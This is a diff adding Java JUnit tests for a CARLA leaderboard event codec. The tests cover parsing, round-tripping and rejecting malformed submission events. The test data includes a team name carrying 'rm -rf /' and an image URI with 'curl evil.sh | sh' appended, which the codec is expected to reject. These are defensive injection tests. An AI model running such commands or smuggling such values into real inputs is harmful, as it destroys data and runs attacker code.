@@ -1,0 +1,142 @@
+package org.carla.leaderboard.domain;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.time.Instant;
+import java.util.List;
+import java.util.Map;
+
+import org.carla.leaderboard.domain.event.EventCodec;
+import org.carla.leaderboard.domain.event.JobFinished;
+import org.carla.leaderboard.domain.event.JobStarted;
+import org.carla.leaderboard.domain.event.LaunchRequest;
+import org.carla.leaderboard.domain.event.MalformedEventException;
+import org.carla.leaderboard.domain.event.MalformedEventException.Reason;
+import org.carla.leaderboard.domain.event.NotLaunched;
+import org.carla.leaderboard.domain.event.Progress;
+import org.carla.leaderboard.domain.event.SubmissionEvent;
+import org.carla.leaderboard.domain.event.SubmissionIdentity;
+import org.carla.leaderboard.domain.track.TrackSpec;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+
+class EventCodecTests {
+
+    static final SubmissionIdentity SUBMISSION = new SubmissionIdentity(4242, 17, 2077, 99, "Team <Rocket>; rm -rf /",
+            "leaderboard-20", "SENSORS");
+    static final TrackSpec TRACK = new TrackSpec("leaderboard-20", "SENSORS", "carla-leaderboard-20",
+            "/workspace/leaderboard/data/routes_testing.xml", 20, 1, 4, "g5.12xlarge", "carla:0.9.15", "lb:20",
+            "pod-runtime:1", "vulkan", 172800, 4, false, null, Map.of());
+    static final Instant AT = Instant.parse("2026-11-21T10:15:30Z");
+
+    @Test
+    void announcementTakesNumbersOrNumericStrings() {
+        var announced = EventCodec.parseAnnouncement("""
+                {"challenge_pk": "17", "phase_pk": 2077, "submission_pk": " 4242 ",
+                 "submitted_image_uri": "123456789012.dkr.ecr.us-west-2.amazonaws.com/team:v1",
+                 "is_static_dataset_code_upload_submission": false}""");
+        assertThat(announced.challengePk()).isEqualTo(17);
+        assertThat(announced.phasePk()).isEqualTo(2077);
+        assertThat(announced.submissionPk()).isEqualTo(4242);
+        assertThat(announced.imageUri()).contains("123456789012.dkr.ecr.us-west-2.amazonaws.com/team:v1");
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @CsvSource(delimiter = '|', textBlock = """
+            not json                        | {"challenge_pk": 1,                                                | NOT_JSON      | $
+            empty                           | '   '                                                              | NOT_JSON      | $
+            array                           | [1,2]                                                              | WRONG_TYPE    | $
+            missing submission              | {"challenge_pk": 1, "phase_pk": 2}                                 | MISSING_FIELD | submission_pk
+            null phase                      | {"challenge_pk": 1, "phase_pk": null, "submission_pk": 3}          | MISSING_FIELD | phase_pk
+            non-numeric pk                  | {"challenge_pk": "abc", "phase_pk": 2, "submission_pk": 3}         | WRONG_TYPE    | challenge_pk
+            fractional pk                   | {"challenge_pk": 1.5, "phase_pk": 2, "submission_pk": 3}           | WRONG_TYPE    | challenge_pk
+            huge pk                         | {"challenge_pk": 1, "phase_pk": 2, "submission_pk": 99999999999999999999999} | INVALID_VALUE | submission_pk
+            negative pk                     | {"challenge_pk": 1, "phase_pk": -2, "submission_pk": 3}            | INVALID_VALUE | phase_pk
+            image not a string              | {"challenge_pk": 1, "phase_pk": 2, "submission_pk": 3, "submitted_image_uri": 5} | WRONG_TYPE | submitted_image_uri
+            """)
+    void announcementRejectsWhatCannotBeRead(String name, String body, Reason reason, String field) {
+        assertThatThrownBy(() -> EventCodec.parseAnnouncement(body))
+                .isInstanceOfSatisfying(MalformedEventException.class, e -> {
+                    assertThat(e.reason()).isEqualTo(reason);
+                    assertThat(e.field()).isEqualTo(field);
+                    assertThat(e.getMessage()).contains(field);
+                });
+    }
+
+    @Test
+    void launchRequestRoundTrips() {
+        var request = LaunchRequest.of(SUBMISSION, "registry.example.com:5000/team/agent:v1", true, TRACK, AT);
+        String json = EventCodec.write(request);
+        assertThat(json).contains("\"submission_pk\":4242", "\"image_uri\":", "\"version\":1",
+                "\"requested_at\":\"2026-11-21T10:15:30Z\"");
+        assertThat(EventCodec.parseLaunchRequest(json)).isEqualTo(request);
+    }
+
+    @Test
+    void launchRequestRefusesAShellInTheImage() {
+        String json = EventCodec.write(LaunchRequest.of(SUBMISSION, "team/agent:v1", false, TRACK, AT))
+                .replace("team/agent:v1", "team/agent:v1; curl evil.sh | sh");
+        assertThatThrownBy(() -> EventCodec.parseLaunchRequest(json))
+                .isInstanceOfSatisfying(MalformedEventException.class, e -> {
+                    assertThat(e.reason()).isEqualTo(Reason.INVALID_VALUE);
+                    assertThat(e.field()).isEqualTo("image_uri");
+                });
+    }
+
+    @Test
+    void launchRequestNamesTheMissingNestedField() {
+        String json = EventCodec.write(LaunchRequest.of(SUBMISSION, "team/agent:v1", false, TRACK, AT))
+                .replace("\"team_name\":\"Team <Rocket>; rm -rf /\",", "");
+        assertThatThrownBy(() -> EventCodec.parseLaunchRequest(json))
+                .isInstanceOfSatisfying(MalformedEventException.class, e -> {
+                    assertThat(e.reason()).as(e.getMessage()).isEqualTo(Reason.MISSING_FIELD);
+                    assertThat(e.field()).isEqualTo("submission.team_name");
+                });
+    }
+
+    @Test
+    void anUnknownVersionIsRefused() {
+        String json = EventCodec.write(JobStarted.of(SUBMISSION, "job-1", AT)).replace("\"version\":1", "\"version\":2");
+        assertThatThrownBy(() -> EventCodec.parseSubmissionEvent(json))
+                .isInstanceOfSatisfying(MalformedEventException.class,
+                        e -> assertThat(e.reason()).isEqualTo(Reason.UNSUPPORTED_VERSION));
+    }
+
+    @Test
+    void submissionEventsRoundTripWithTheirType() {
+        List<SubmissionEvent> events = List.of(
+                JobStarted.of(SUBMISSION, "team-sensors-4242", AT),
+                Progress.of(SUBMISSION, 7, 20, false, Progress.EvalAiFileKeys.under("4242"), AT),
+                JobFinished.of(SUBMISSION, "team-sensors-4242", JobFinished.Outcome.FAILED, "BackoffLimitExceeded", 4,
+                        AT, AT.plusSeconds(60), List.of(new JobFinished.ContainerOutcome("agent-1", 8, 1, "Error")), AT),
+                NotLaunched.of(SUBMISSION, NotLaunched.Reason.NOT_ALLOWED, "SENSORS needs a qualifier", AT));
+        for (SubmissionEvent event : events) {
+            String json = EventCodec.write(event);
+            assertThat(json).contains("\"type\":\"" + event.type() + "\"");
+            assertThat(EventCodec.parseSubmissionEvent(json)).isEqualTo(event);
+        }
+    }
+
+    @Test
+    void anUnknownEventTypeIsRefused() {
+        String json = EventCodec.write(JobStarted.of(SUBMISSION, "job-1", AT)).replace("job-started", "job-exploded");
+        assertThatThrownBy(() -> EventCodec.parseSubmissionEvent(json))
+                .isInstanceOfSatisfying(MalformedEventException.class, e -> {
+                    assertThat(e.reason()).isEqualTo(Reason.UNKNOWN_TYPE);
+                    assertThat(e.field()).isEqualTo("type");
+                });
+    }
+
+    @Test
+    void aWrongTypeNamesTheField() {
+        String json = EventCodec.write(Progress.of(SUBMISSION, 7, 20, false, Progress.EvalAiFileKeys.under("4242"), AT))
+                .replace("\"routes_done\":7", "\"routes_done\":\"seven\"");
+        assertThatThrownBy(() -> EventCodec.parseSubmissionEvent(json))
+                .isInstanceOfSatisfying(MalformedEventException.class, e -> {
+                    assertThat(e.reason()).isEqualTo(Reason.WRONG_TYPE);
+                    assertThat(e.field()).isEqualTo("routes_done");
+                });
+    }
+}
